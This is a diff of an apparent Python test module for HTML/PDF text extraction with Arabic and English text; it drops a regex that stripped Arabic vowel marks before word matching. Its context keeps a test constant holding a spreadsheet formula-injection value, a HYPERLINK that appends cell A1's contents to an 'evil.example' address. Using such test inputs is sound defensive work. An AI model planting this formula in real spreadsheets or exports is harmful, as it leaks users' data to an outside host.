@@ -36,7 +36,6 @@ WORD = re.compile(r"\w+")
 BLOCKS = r"dt|dd|div|p|li|h\d|td|th|section|text|figcaption|blockquote"
 ISOLATES = re.compile("[\u202a-\u202e\u2066-\u2069]")
 INVISIBLE = re.compile("[\u200b-\u200f\u00ad\ufeff]")
-MARKED = re.compile(r"\S*[\u064b-\u0652]\S*")
 PAGE = "<!doctype html><p>بيان الوزارة: The deficit reached 3%.</p>".encode()
 FORMULA = '=HYPERLINK("https://evil.example/"&A1;"انقر")'
 
@@ -116,8 +115,7 @@ def words(text: str) -> list[str]:
 
 def share(wanted: str, found: str) -> float:
     """How many of the words, each as often as it stands, are found."""
-    # What PDF engines make of a letter with a vowel mark on it is not always a word.
-    asked, there = Counter(words(MARKED.sub(" ", wanted))), Counter(words(found))
+    asked, there = Counter(words(wanted)), Counter(words(found))
     return (asked & there).total() / (asked.total() or 1)
 
 
